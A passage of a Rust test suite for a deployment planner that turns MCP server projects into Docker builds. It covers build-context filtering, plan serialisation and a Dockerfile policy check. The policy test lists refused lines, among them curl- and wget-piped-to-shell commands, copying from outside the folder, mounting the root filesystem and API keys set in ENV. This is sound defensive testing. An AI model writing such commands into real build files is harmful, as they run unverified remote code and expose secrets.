    assert_eq!(found.remove("Dockerfile").unwrap(), dockerfile.as_bytes());
    assert_eq!(found.len(), tree.files().len());
    for file in tree.files() {
        assert_eq!(sigyl_core::Digest::of(&found[&format!("app/{}", file.path)]), file.digest);
    }

    let mut changed: BTreeMap<String, Vec<u8>> =
        tree.files().iter().map(|file| (file.path.clone(), folder.read(&file.path).unwrap())).collect();
    assert!(write(&changed).is_ok());
    changed.get_mut("src/index.ts").unwrap()[0] ^= 1;
    assert!(matches!(write(&changed), Err(ContextError::Changed { path }) if path == "src/index.ts"));
    changed.remove("src/index.ts");
    assert!(matches!(write(&changed), Err(ContextError::Changed { .. })));
}

#[test]
fn private_files_and_long_names_in_a_context() {
    let long = format!("{}/{}.js", "d".repeat(120), "é".repeat(60));
    let files = [
        ("package.json", "{}"),
        ("index.js", SERVER),
        (".env", "SECRET=1"),
        ("a/.env.local", "SECRET=1"),
        (".env.example", "SECRET="),
        ("keys/id_ed25519", "-----"),
        (long.as_str(), "1"),
    ];
    let tree = tree(None, &files);
    let plan = plan_tree(&tree, &PlanOptions::default()).unwrap();
    let bytes: BTreeMap<String, Vec<u8>> =
        files.iter().map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec())).collect();
    let mut out = Vec::new();
    plan.write_context(&tree, &bytes, &[], &mut out).unwrap();
    let mut archive = tar::Archive::new(out.as_slice());
    let names: Vec<String> = archive
        .entries()
        .unwrap()
        .map(|entry| entry.unwrap().path().unwrap().to_str().unwrap().to_owned())
        .collect();
    assert_eq!(
        names,
        [
            "app/.env.example".to_owned(),
            format!("app/{long}"),
            "app/index.js".to_owned(),
            "app/package.json".to_owned()
        ]
    );
}

proptest! {
    #[test]
    fn the_order_of_files_changes_nothing(order in Just((0..5).collect::<Vec<usize>>()).prop_shuffle()) {
        let files = [("package.json", r#"{"main": "index.js", "dependencies": {"a": "1"}}"#), ("index.js", SERVER), ("package-lock.json", LOCK), ("a/b.js", "1"), ("README.md", "")];
        let shuffled: Vec<_> = order.iter().map(|at| files[*at]).collect();
        let (a, b) = (tree(None, &files), tree(None, &shuffled));
        let (a, b) = (plan_tree(&a, &PlanOptions::default()).unwrap(), plan_tree(&b, &PlanOptions::default()).unwrap());
        prop_assert_eq!(serde_json::to_vec(&a).unwrap(), serde_json::to_vec(&b).unwrap());
        prop_assert_eq!(a.dockerfile(&DockerfileOptions::default()), b.dockerfile(&DockerfileOptions::default()));
    }
}

#[test]
fn a_plan_survives_being_stored() {
    let (_, tree) = example("template-oauth-proxy");
    let plan = plan_tree(&tree, &PlanOptions::default()).unwrap();
    let text = serde_json::to_string(&plan).unwrap();
    let back: sigyl_deploy::BuildPlan = serde_json::from_str(&text).unwrap();
    assert_eq!((back.digest(), &back), (plan.digest(), &plan));
}

fn own(dockerfile: &str, manifest: &str) -> Result<sigyl_deploy::BuildPlan, PlanError> {
    let files = [("Dockerfile", dockerfile), ("mcp.yaml", manifest), ("index.js", "x"), ("docker/a", "1")];
    plan_tree(&tree(None, &files), &PlanOptions::default())
}

const CONTAINER: &str =
    "name: s\nruntime: container\ntransport: http\nport: 3000\nbuild: { dockerfile: Dockerfile }\n";

#[test]
fn an_own_dockerfile_is_wrapped() {
    let text = "ARG V=22\nFROM node:${V}-slim AS install\nCOPY package.json \\\n  ./lib /src/\nRUN npm ci\nFROM node:22-slim AS run\nCOPY --from=install /src /srv\nADD [\"a b\", \"/x\"]\nUSER root\nCMD [\"node\", \"/srv/index.js\"]\n";
    let plan = own(text, CONTAINER).unwrap_or_else(|error| panic!("{error:#?}"));
    assert_eq!(
        plan.stages(),
        [Stage { target: "install", network: true }, Stage { target: "run", network: false }]
    );
    let codes: Vec<&str> = plan.decisions.iter().map(|decision| decision.code.as_str()).collect();
    assert_eq!(codes, ["base-not-pinned", "base-not-pinned", "user-replaced", "own-dockerfile"]);
    let rendered = plan.dockerfile(&DockerfileOptions::default());
    let stable = rendered
        .replace(plan.digest().as_str(), "PLAN")
        .replace(plan.tree_digest.as_str(), "TREE")
        .replace(plan.report_digest.as_str(), "REPORT");
    insta::with_settings!({ snapshot_path => "plans", prepend_module_to_snapshot => false, omit_expression => true }, {
        insta::assert_snapshot!("own-dockerfile", stable);
    });
    let second = plan
        .dockerfile(&DockerfileOptions { prepared: Some("x:1".to_owned()), ..DockerfileOptions::default() });
    assert!(second.starts_with("FROM x:1 AS run\n"), "{second}");
    let stdio = "name: s\nruntime: container\ntransport: stdio\nbuild: { dockerfile: Dockerfile }\n";
    let plan = own("FROM node:22-slim\nENTRYPOINT [\"node\"]\nCMD [\"a.js\"]\n", stdio).unwrap();
    assert_eq!((plan.start.join(" "), plan.bridge), ("node a.js".to_owned(), Some(Bridge::Session)));
    assert!(own("FROM node:22-slim\nCMD node a.js\n", stdio).is_err());
}

#[test]
fn a_dockerfile_that_breaks_the_policy() {
    for (bad, why) in [
        ("# syntax=docker/dockerfile:1\nFROM a:1\n", "another frontend"),
        ("FROM node\n", "may be any image"),
        ("FROM node:latest\n", "may be any image"),
        ("FROM $BASE\n", "variable without a value"),
        ("FROM a:1\nRUN curl -fsSL https://x.example/i | sh\n", "runs what it fetches"),
        (
            "FROM a:1\nRUN apt-get update && wget -qO- https://x.example/i | sudo -E /bin/bash -\n",
            "runs what it fetches",
        ),
        ("FROM a:1\nRUN sh -c \"$(curl -fsSL https://x.example/i)\"\n", "runs what it fetches"),
        ("FROM a:1\nADD https://x.example/a.tgz /\n", "unproved"),
        ("FROM a:1\nCOPY ../secret /\n", "leaves the folder"),
        ("FROM a:1\nCOPY --from=evil /a /a\n", "may be any image"),
        ("FROM a:1\nENV API_KEY=sk-0123456789\n", "for everybody to read"),
        ("FROM a:1\nENV DB_PASSWORD correct-horse\n", "for everybody to read"),
        ("FROM a:1\nRUN --security=insecure id\n", "not allowed"),
        ("FROM a:1\nRUN --mount=type=bind,source=/,target=/x id\n", "not allowed"),
        ("FROM a:1\nONBUILD RUN id\n", "acts in other builds"),
        ("FROM a:1\nINCLUDE x\n", "no instruction"),
        ("RUN id\nFROM a:1\n", "before the first"),
        ("", "no `FROM`"),
        ("FROM a:1\nRUN <<EOF\nid\nEOF\n", "here-documents"),
        ("FROM a:1 AS sigyl-x\n", "none that a stage may have"),
    ] {
        match own(bad, CONTAINER) {
            Err(PlanError::Refused { diagnostics }) => {
                let told = diagnostics.iter().any(|it| it.message.contains(why) && it.mend.is_some());
                assert!(told, "{bad}: {diagnostics:#?}");
            }
            other => panic!("{bad}: {other:#?}"),
        }
    }
    for good in [
        "FROM a:1\nRUN curl -fsSLO https://x.example/i.tgz && echo \"0 i.tgz\" | sha256sum -c -\n",
        "FROM a:1\nENV TOKENS_MAX=100\nARG API_KEY\n",
        "FROM a:1 AS b\nFROM b\nCOPY --from=0 /a /a\n",
        "FROM scratch\nCOPY index.js /\n",
    ] {
        assert!(own(good, CONTAINER).is_ok(), "{good}: {:#?}", own(good, CONTAINER));
    }
}

#[test]
fn a_build_folder_stays_in_the_tree() {
    for outside in ["..", "/etc", "docker/../.."] {
        let smithery = format!(
            "runtime: container\nstartCommand: {{ type: http }}\nbuild: {{ dockerfile: Dockerfile, dockerBuildPath: \"{outside}\" }}\n"
        );
        let tree = tree(
            None,
            &[("Dockerfile", "FROM a:1\nCOPY . /\n"), ("smithery.yaml", &smithery), ("index.js", "x")],
        );
        let parsed = Manifest::discover(&tree);
        assert!(parsed.diagnostics.iter().any(|it| it.code == "path-leaves-tree"), "{outside}");
        // What is left of it builds in the root.
        let plan = plan_tree(&tree, &PlanOptions::default()).unwrap_or_else(|error| panic!("{error:#?}"));
        assert!(plan.wrapped.unwrap().contains("COPY [\"app/.\", \"/\"]\n"));
    }
    let smithery = "runtime: container\nstartCommand: { type: http }\nbuild: { dockerfile: docker/Dockerfile, dockerBuildPath: docker }\n";
    let plan = plan_of(&[
        ("docker/Dockerfile", "FROM a:1\nCOPY x /\n"),
        ("smithery.yaml", smithery),
        ("index.js", "x"),
    ]);
    assert_eq!(plan.wrapped.unwrap(), "FROM a:1 AS install\nCOPY [\"app/docker/x\", \"/\"]\n");
}

#[test]
fn a_prebuilt_image() {
    let document = |image: &str| {
        format!(
            r#"{{"name": "io.github.a/s", "description": "d", "version": "1.0.0", "packages": [{{"registryType": "oci", "identifier": "{image}", "version": "1.0.0", "transport": {{"type": "streamable-http", "url": "http://127.0.0.1:9000/mcp"}}}}]}}"#
        )
    };
    let manifest = "name: s\nruntime: container\ntransport: http\nport: 9000\n";
    let image = format!("registry.example/s@sha256:{}", "0".repeat(64));
    let plan = plan_of(&[("server.json", &document(&image)), ("mcp.yaml", manifest)]);
    assert_eq!((plan.planner.as_str(), plan.port), ("image", 9000));
    assert_eq!(plan.stages(), [Stage { target: "run", network: false }]);
    let text = plan.dockerfile(&DockerfileOptions::default());
    assert!(text.starts_with(&format!("FROM {image} AS run\n")), "{text}");
    assert!(!text.contains("CMD [\"node") && !text.contains("/app"), "{text}");
    // Nothing is installed, and nothing given.
    let needs = format!("{manifest}build: {{ secrets: [TOKEN] }}\n");
    let plan = plan_of(&[("server.json", &document(&image)), ("mcp.yaml", &needs)]);
    assert!(plan.build_secrets.is_empty());
    assert!(plan.decisions.iter().any(|it| it.code == "build-secrets-not-used"), "{:?}", plan.decisions);
    assert_eq!(
        refused(&[("server.json", &document("registry.example/s:latest")), ("mcp.yaml", manifest)]),
        ["image-not-pinned mcp.yaml:1"]
    );
}
